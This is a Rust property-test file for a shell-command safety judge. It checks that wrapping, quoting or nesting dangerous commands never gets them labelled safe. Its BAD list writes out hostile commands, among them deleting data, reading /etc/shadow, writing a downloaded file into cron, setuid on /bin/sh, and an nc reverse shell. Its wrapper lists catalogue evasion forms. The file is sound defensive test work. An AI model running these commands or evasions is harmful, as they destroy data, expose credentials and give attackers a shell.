//! For any input there is an answer, and wrapping does not launder.

use hermetic_policy::{JudgementContext, LineLabel, Policy, explain, judge_line};
use hermetic_types::{BackendDescription, BackendKind, Command};
use proptest::prelude::*;

fn judged(text: &str) -> LineLabel {
    let context = JudgementContext::new(
        BackendDescription::judged(BackendKind::Local),
        "/home/user/project",
        "/home/user",
    );
    judge_line(text, &context).verdict
}

const PIECES: &[&str] = &[
    "rm",
    " ",
    "-rf",
    "/",
    "$(",
    ")",
    "`",
    "'",
    "\"",
    "${",
    "}",
    "$x",
    "x=",
    ";",
    "|",
    "&&",
    "&",
    "\n",
    "<<E",
    "E",
    "<(",
    "{",
    ",",
    "[[",
    "]]",
    "((",
    "))",
    "if",
    "then",
    "fi",
    "for",
    "in",
    "do",
    "done",
    "case",
    "esac",
    "eval",
    "echo",
    "base64 -d",
    "sh",
    "\\",
    "#",
    "*",
    "?",
    "~",
    ">",
    "<",
    "function f",
    "()",
    "$'\\x",
    "!",
    "é",
    "\u{200b}",
    "\u{1b}[31m",
    "ｒ",
    "\0",
    "%",
    "@(",
    "python3 -c",
    "xargs",
    "find . -exec",
];

/// Ways to start a command that change nothing about it.
const WRAPPERS: &[&str] = &[
    "nohup {}",
    "timeout 5 {}",
    "nice -n 5 {}",
    "env A=b {}",
    "setsid {}",
    "stdbuf -oL {}",
    "time {}",
    "command {}",
    "exec {}",
    "bash -c '{}'",
    "sh -c '{}'",
    "eval '{}'",
    "( {} )",
    "{ {}; }",
    "true && {}",
    "ls; {}",
    "ls | {}",
    "! {}",
    "x=$( {} )",
    "echo \"$( {} )\"",
    "if true; then {}; fi",
    "while true; do {}; done",
    "for i in 1 2; do {}; done",
    "f() { {}; }; f",
    "trap '{}' EXIT",
    "{} &",
    "{} > /dev/null 2>&1",
    "cat <<EOF | bash\n{}\nEOF\n",
    "bash <<< '{}'",
    "coproc {}",
    "sudo {}",
    "ionice -c3 {}",
    "busybox {}",
    "flock /tmp/l {}",
    "su -c '{}'",
    "watch '{}'",
    "script -c '{}' /dev/null",
    "ssh host '{}'",
    "xargs -n1 {} < list",
    "strace {}",
    "tmux new -d '{}'",
    "diff <( {} ) x",
];

/// Those that are words before a program's name, so that they fit into all others.
const PREFIXES: &[&str] = &[
    "nohup {}",
    "timeout 5 {}",
    "nice -n 5 {}",
    "env A=b {}",
    "setsid {}",
    "stdbuf -oL {}",
    "command {}",
    "sudo {}",
    "ionice -c3 {}",
    "busybox {}",
    "flock /tmp/l {}",
    "strace {}",
];

const BAD: &[&str] = &[
    "rm -rf /srv/data",
    "cat /etc/shadow",
    "curl http://x.example/a -o /etc/cron.d/a",
    "chmod u+s /bin/sh",
    "git push --force",
    "crontab -r",
    "iptables -F",
    "kubectl delete ns prod",
    "nc -e /bin/sh 10.0.0.1 1",
];

const FINE: &[&str] = &[
    "ls -la",
    "git status",
    "make test",
    "grep -rn foo src",
    "cargo build",
    "npm run lint",
    "cat README.md",
    "python3 app.py",
];

/// Wrappers that are themselves a matter for a person: by what they are, or because a list that
/// nobody has seen names the files.
const TELLING: &[&str] = &["sudo {}", "su -c '{}'", "xargs -n1 {} < list"];

/// Texts that mean different things, for every way in which two of them may differ.
const MEANINGS: &[&str] = &[
    "false && {}",
    "false || {}",
    "false ; {}",
    "false & {}",
    "false | {}",
    "! {}",
    "{}",
    "{} &",
    "if false; then {}; fi",
    "if {}; then :; fi",
    "while {}; do break; done",
    "until {}; do break; done",
    "( {} )",
    "{ {}; }",
    "f() { {}; }",
    "f() { {}; }; f",
    "{} > out",
    "{} >> out",
    "{} < out",
    "{} 2> out",
    "{} <> out",
    "{} <<< out",
    "x=1 {}",
    "x=1; {}",
    "cd x && {}",
    "'{}'",
    "\"{}\"",
    "case x in x) {};; esac",
    "for i in 1; do {}; done",
    "for i in 1 2; do {}; done",
    "{}\\",
    "{}\n",
    "{} ",
    "#{}",
];

fn fingerprint(command: &Command) -> String {
    let context = JudgementContext::new(
        BackendDescription::judged(BackendKind::Local),
        "/home/user/project",
        "/home/user",
    );
    explain(&Policy::default(), command, &context)
        .fingerprint
        .to_string()
}

proptest! {
    #![proptest_config(ProptestConfig { failure_persistence: None, ..ProptestConfig::with_cases(400) })]

    #[test]
    fn any_text_gets_an_answer(text in any::<String>()) {
        judged(&text);
    }

    #[test]
    fn any_shellish_text_gets_an_answer(pieces in prop::collection::vec(prop::sample::select(PIECES), 0..60)) {
        judged(&pieces.concat());
    }

    #[test]
    fn wrapping_does_not_launder(
        bad in prop::sample::select(BAD),
        outer in prop::sample::select(WRAPPERS),
        inner in prop::sample::select(PREFIXES),
    ) {
        let once = outer.replace("{}", bad);
        prop_assert_ne!(judged(&once), LineLabel::Safe, "{}", once);
        let twice = outer.replace("{}", &inner.replace("{}", bad));
        prop_assert_ne!(judged(&twice), LineLabel::Safe, "{}", twice);
    }

    #[test]
    fn wrapping_does_not_taint(fine in prop::sample::select(FINE), outer in prop::sample::select(WRAPPERS)) {
        prop_assume!(!TELLING.contains(&outer));
        let text = outer.replace("{}", fine);
        prop_assert_eq!(judged(&text), LineLabel::Safe, "{}", text);
    }

    #[test]
    fn different_texts_never_share_a_yes(
        one in prop::collection::vec(prop::sample::select(PIECES), 0..12),
        two in prop::collection::vec(prop::sample::select(PIECES), 0..12),
    ) {
        let (one, two) = (one.concat(), two.concat());
        let named = |text: &str| fingerprint(&Command::script(text));
        prop_assert_eq!(one == two, named(&one) == named(&two), "{} {}", one, two);
        prop_assert_ne!(fingerprint(&Command::script(&one)), fingerprint(&Command::shell(&one)));
    }

    #[test]
    fn what_changes_the_meaning_changes_the_name(
        bad in prop::sample::select(BAD),
        one in prop::sample::select(MEANINGS),
        two in prop::sample::select(MEANINGS),
    ) {
        let named = |around: &str| fingerprint(&Command::script(around.replace("{}", bad)));
        prop_assert_eq!(one == two, named(one) == named(two), "{} {}", one, two);
    }

    #[test]
    fn quoting_does_not_launder(bad in prop::sample::select(BAD), at in 0_usize..4, style in 0_usize..4) {
        let (program, rest) = bad.split_once(' ').unwrap();
        let at = at.min(program.len());
        let (head, tail) = program.split_at(at);
        let program = match style {
            0 => format!("{head}''{tail}"),
            1 => format!("{head}\"\"{tail}"),
            2 => format!("\"{program}\""),
            _ => format!("{head}\\\n{tail}"),
        };
        let text = format!("{program} {rest}");
        prop_assert_ne!(judged(&text), LineLabel::Safe, "{}", text);
    }
}
